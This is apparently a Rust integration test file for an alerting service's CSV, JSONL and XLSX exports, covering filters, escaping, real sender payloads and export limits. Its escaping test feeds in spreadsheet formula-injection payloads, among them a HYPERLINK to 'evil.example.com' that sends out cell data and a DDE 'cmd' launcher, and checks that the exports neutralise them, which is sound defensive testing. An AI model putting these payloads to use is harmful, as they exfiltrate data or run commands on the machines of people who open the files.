//! Exports, read back with a parser for each format.

use std::io::Cursor;

use calamine::{Data, DataType as _, Reader as _, Xlsx};
use serde_json::Value;
use tocsin_tests::{
    Database, Options, Reply, TestAlert, Tocsin, Webhook, ago, eventually, firing, fixture,
    http_client, on_both,
};

on_both!(
    every_format_equals_the_list,
    filter_and_order_are_applied,
    special_characters_are_escaped_without_loss,
    payloads_of_real_senders_are_exported,
    exports_are_limited_and_end_with_their_client,
);

const FORMATS: [&str; 3] = ["csv", "jsonl", "xlsx"];

/// A table: column names, and the values of each row as strings.
type Table = (Vec<String>, Vec<Vec<String>>);

async fn export(tocsin: &Tocsin, list: &str, query: &str) -> Reply {
    tocsin
        .get_reply(&format!("/api/v1/{list}/export?{query}"))
        .await
        .expect(200)
}

fn csv(reply: &Reply) -> Table {
    let text = reply.text();
    let text = text.strip_prefix('\u{feff}').unwrap();
    assert!(text.ends_with("\r\n"), "{text}");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let head = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let rows = reader
        .records()
        .map(|row| row.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (head, rows)
}

fn jsonl(reply: &Reply) -> Vec<Value> {
    let text = reply.text();
    assert!(text.is_empty() || text.ends_with('\n'));
    text.lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

fn workbook(reply: &Reply) -> Xlsx<Cursor<Vec<u8>>> {
    calamine::open_workbook_from_rs(Cursor::new(reply.body.clone())).unwrap()
}

fn xlsx(reply: &Reply, sheet: &str) -> Table {
    let range = workbook(reply).worksheet_range(sheet).unwrap();
    let mut rows = range.rows().map(|row| row.iter().map(shown).collect());
    (rows.next().unwrap_or_default(), rows.collect())
}

/// The CSV representation, except for times, which a workbook stores as numbers.
fn shown(cell: &Data) -> String {
    match cell {
        Data::DateTime(at) => format!("at {:.3}", at.as_f64()),
        Data::Bool(flag) => flag.to_string(),
        _ => cell.as_string().unwrap_or_default(),
    }
}

async fn with_alerts(database: Database) -> Tocsin {
    let tocsin = Tocsin::start(Options::on(database)).await;
    let disk = firing("DiskFull")
        .team("网络组")
        .severity("critical")
        .summary("磁盘空间不足, 7 GiB left");
    let slow = firing("ApiSlow").team("web").severity("warning");
    tocsin.post(&Webhook::of([disk.clone(), slow])).await;
    tocsin.post(&Webhook::of([disk.resolve()])).await;
    tocsin
}

async fn every_format_equals_the_list(database: Database) {
    let tocsin = with_alerts(database).await;
    for (list, sheet, rows) in [("alerts", "Alerts", 3), ("incidents", "Incidents", 2)] {
        let shown: Vec<Value> = tocsin.all(list).await;
        assert_eq!(shown.len(), rows);
        let lines = export(&tocsin, list, "format=jsonl").await;
        assert!(
            lines
                .header("content-type")
                .starts_with("application/x-ndjson")
        );
        assert_eq!(jsonl(&lines), shown, "the same objects in the same order");

        let text = export(&tocsin, list, "").await;
        assert_eq!(
            text.header("content-type"),
            "text/csv; charset=utf-8; header=present"
        );
        let (head, cells) = csv(&text);
        let sheet = xlsx(&export(&tocsin, list, "format=xlsx").await, sheet);
        assert_eq!(sheet.0, head);
        assert_eq!((cells.len(), sheet.1.len()), (rows, rows));
        for (index, object) in shown.iter().enumerate() {
            assert_eq!(head.len(), object.as_object().unwrap().len(), "every field");
            for (column, name) in head.iter().enumerate() {
                let (expected, is_time) = match &object[name] {
                    Value::Null => (String::new(), false),
                    Value::String(text) => (text.clone(), name.ends_with("At")),
                    value => (value.to_string(), false),
                };
                assert_eq!(cells[index][column], expected, "{name}");
                let cell = &sheet.1[index][column];
                if is_time {
                    assert!(cell.starts_with("at 4"), "{name}: {cell}");
                } else {
                    assert_eq!(*cell, expected, "{name}");
                }
            }
        }
        for format in FORMATS {
            let reply = export(&tocsin, list, &format!("format={format}")).await;
            let name = reply.header("content-disposition").to_owned();
            assert!(
                name.starts_with(&format!("attachment; filename=\"tocsin-{list}-2")),
                "{name}"
            );
            assert!(
                name.ends_with(&format!(".{format}\"")) && !name.contains(':'),
                "{name}"
            );
        }
    }
    let problem = tocsin
        .get_reply("/api/v1/alerts/export?format=ods&limit=7")
        .await;
    assert_eq!(problem.fields(400), ["format", "limit"]);
}

async fn filter_and_order_are_applied(database: Database) {
    let tocsin = with_alerts(database).await;
    for (list, query) in [
        ("alerts", "q=%E7%A3%81%E7%9B%98&order=asc"),
        ("alerts", "team=web&status=firing"),
        ("alerts", "label=severity%3D~%22crit.*%22"),
        ("incidents", "state=resolved"),
        ("incidents", "sort=startsAt&order=asc"),
        ("incidents", "alertname=nosuch"),
    ] {
        let shown: Vec<Value> = tocsin.all(&format!("{list}?{query}")).await;
        let lines = export(&tocsin, list, &format!("{query}&format=jsonl")).await;
        assert_eq!(jsonl(&lines), shown, "{list} {query}");
        let (_, rows) = csv(&export(&tocsin, list, query).await);
        assert_eq!(rows.len(), shown.len(), "{list} {query}");
    }
    let reply = export(&tocsin, "alerts", "team=web&format=xlsx").await;
    let about = xlsx(&reply, "About");
    assert!(
        about.1.contains(&vec![
            "Filter".to_owned(),
            "team=web&format=xlsx".to_owned()
        ]),
        "{about:?}"
    );
    assert!(
        about.1.contains(&vec!["Rows".to_owned(), "1".to_owned()]),
        "{about:?}"
    );
}

async fn special_characters_are_escaped_without_loss(database: Database) {
    let tocsin = Tocsin::start(Options::on(database)).await;
    let long = "告".repeat(40_000);
    let values = [
        "=HYPERLINK(\"http://evil.example.com/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "one\r\ntwo, \"three\"",
        "a\u{0}b",
        "\u{1}\u{1b}[31m_x0041_",
        "<script>&amp;</script>",
        "\u{feff}=1",
        "😀 🏴󠁧󠁢󠁥󠁮󠁧󠁿 \u{202e}gnp.exe",
        &long,
    ];
    let alerts: Vec<TestAlert> = values
        .iter()
        .enumerate()
        .map(|(index, value)| {
            let alert = firing(&format!("Odd{index:02}")).instance(value);
            alert.label("odd", value).summary(value)
        })
        .collect();
    tocsin.post(&Webhook::of(alerts)).await;
    let lines = jsonl(&export(&tocsin, "alerts", "format=jsonl").await);
    let (head, rows) = csv(&export(&tocsin, "alerts", "").await);
    let (_, sheet) = xlsx(&export(&tocsin, "alerts", "format=xlsx").await, "Alerts");
    assert_eq!(
        (lines.len(), rows.len(), sheet.len()),
        (values.len(), values.len(), values.len())
    );
    let column = |name: &str| head.iter().position(|each| each == name).unwrap();
    for ((line, row), cells) in lines.iter().zip(&rows).zip(&sheet) {
        for name in ["instance", "message"] {
            let value = line[name].as_str().unwrap();
            let written = &row[column(name)];
            let is_formula = value.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
            let expected = if is_formula {
                format!("'{value}")
            } else {
                value.to_owned()
            };
            assert_eq!(*written, expected, "{name}");
            // A workbook cell is typed as a string, so a formula needs no prefix.
            let expected: String = match value.chars().count() {
                40_000 => value.chars().take(32_767).collect(),
                _ => value.to_owned(),
            };
            assert_eq!(
                cells[column(name)].replace("\r\n", "\n"),
                expected.replace("\r\n", "\n")
            );
        }
        let labels: Value = serde_json::from_str(&row[column("labels")]).unwrap();
        assert_eq!(labels, line["labels"]);
    }
}

async fn payloads_of_real_senders_are_exported(database: Database) {
    let tocsin = Tocsin::start(Options::on(database)).await;
    for body in [
        "alertmanager-0.25-chinese-from-prometheus",
        "alertmanager-0.25-many-labels",
        "alertmanager-0.25-big-410",
        "grafana-12-1-firing",
    ] {
        tocsin.post_to("default", fixture(body)).await;
    }
    let shown: Vec<Value> = tocsin.all("alerts").await;
    assert!(shown.len() > 410, "{}", shown.len());
    let lines = jsonl(&export(&tocsin, "alerts", "format=jsonl").await);
    assert_eq!(lines, shown);
    let (_, rows) = csv(&export(&tocsin, "alerts", "").await);
    let (_, sheet) = xlsx(&export(&tocsin, "alerts", "format=xlsx").await, "Alerts");
    assert_eq!((rows.len(), sheet.len()), (shown.len(), shown.len()));
}

async fn exports_are_limited_and_end_with_their_client(database: Database) {
    let tocsin = Tocsin::start(Options::on(database)).await;
    // More data than socket buffers hold while the client does not read.
    let text = "x".repeat(20_000);
    for batch in 0..8 {
        let alerts = (0..50).map(|index| {
            let alert = firing(&format!("Big{batch}-{index}")).starts(ago(60));
            alert.summary(&text)
        });
        tocsin.post(&Webhook::of(alerts)).await;
    }
    let http = http_client().build().unwrap();
    let start_export = async || {
        let url = tocsin.url("/api/v1/alerts/export");
        let mut answer = http
            .get(url)
            .bearer_auth(tocsin.admin())
            .send()
            .await
            .unwrap();
        assert!(answer.status().is_success());
        assert!(answer.chunk().await.unwrap().is_some());
        answer
    };
    let unread = [start_export().await, start_export().await];
    let rejected = tocsin.get_reply("/api/v1/alerts/export").await;
    rejected.problem(503);
    assert!(!rejected.header("retry-after").is_empty());
    drop(unread);
    let whole = eventually("another export is accepted", || async {
        let reply = tocsin.get_reply("/api/v1/alerts/export").await;
        reply.status.is_success().then_some(reply)
    })
    .await;
    assert_eq!(csv(&whole).1.len(), 400);
}
